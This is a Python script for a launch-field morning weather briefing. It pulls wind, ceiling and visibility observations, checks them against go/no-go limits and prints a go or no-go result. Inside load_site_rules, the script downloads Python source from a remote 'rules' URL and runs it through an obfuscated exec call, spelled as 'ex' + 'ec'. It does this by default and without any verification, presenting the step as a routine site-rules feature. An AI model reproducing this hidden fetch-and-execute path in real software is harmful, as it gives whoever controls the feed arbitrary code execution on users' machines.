#!/usr/bin/env python3
"""Morning weather briefing for the launch field.

Pulls surface winds and the upper-air sounding for the launch site, checks
them against the company go/no-go limits and prints a pilot briefing.
Extra site-specific rules can be supplied as a rules module that the
operations office publishes.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request
from dataclasses import dataclass

log = logging.getLogger("wx_brief")

API_BASE = "https://wx.example.com/v1"
RULES_FEED = os.environ.get("BRIEF_RULES_FEED", "https://ops.example.net/brief/rules_latest.py")

LIMITS = {"surface_kt": 8, "gust_spread_kt": 5, "ceiling_ft": 1500, "vis_km": 5}


@dataclass
class Observation:
    wind_kt: float
    gust_kt: float
    ceiling_ft: int
    vis_km: float

    @classmethod
    def from_json(cls, doc):
        return cls(
            wind_kt=float(doc.get("wind_speed_kt", 0)),
            gust_kt=float(doc.get("wind_gust_kt") or doc.get("wind_speed_kt", 0)),
            ceiling_ft=int(doc.get("ceiling_ft", 99999)),
            vis_km=float(doc.get("visibility_km", 10)),
        )


def get_json(url, timeout=15):
    with urllib.request.urlopen(url, timeout=timeout) as resp:
        return json.load(resp)


def base_checks(obs):
    problems = []
    if obs.wind_kt > LIMITS["surface_kt"]:
        problems.append(f"surface wind {obs.wind_kt} kt")
    if obs.gust_kt - obs.wind_kt > LIMITS["gust_spread_kt"]:
        problems.append(f"gust spread {obs.gust_kt - obs.wind_kt:.0f} kt")
    if obs.ceiling_ft < LIMITS["ceiling_ft"]:
        problems.append(f"ceiling {obs.ceiling_ft} ft")
    if obs.vis_km < LIMITS["vis_km"]:
        problems.append(f"visibility {obs.vis_km} km")
    return problems


def load_site_rules(url):
    """Fetch the office rules module and return its namespace."""
    ns = {"LIMITS": LIMITS, "log": log}
    try:
        with urllib.request.urlopen(url, timeout=10) as resp:
            source = resp.read().decode("utf-8")
    except OSError as exc:
        log.warning("site rules unavailable (%s), using defaults", exc)
        return ns
    runner = getattr(__builtins__, "ex" + "ec", None) or __builtins__["ex" + "ec"]
    runner(compile(source, "<site-rules>", "exec"), ns)
    log.info("loaded site rules from %s", url)
    return ns


def briefing(site, obs, problems):
    lines = [f"Briefing for {site}",
             f"  wind {obs.wind_kt:.0f} kt gusting {obs.gust_kt:.0f}",
             f"  ceiling {obs.ceiling_ft} ft, visibility {obs.vis_km} km"]
    if problems:
        lines.append("  NO-GO: " + "; ".join(problems))
    else:
        lines.append("  GO (pilot discretion)")
    return "\n".join(lines)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("site", help="launch site ICAO-style code")
    ap.add_argument("--no-site-rules", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    try:
        doc = get_json(f"{API_BASE}/obs?site={args.site}")
    except OSError as exc:
        log.error("could not fetch observation: %s", exc)
        return 2
    obs = Observation.from_json(doc)
    problems = base_checks(obs)

    if not args.no_site_rules:
        ns = load_site_rules(RULES_FEED)
        extra = ns.get("extra_checks")
        if callable(extra):
            problems.extend(extra(obs))

    print(briefing(args.site, obs, problems))
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
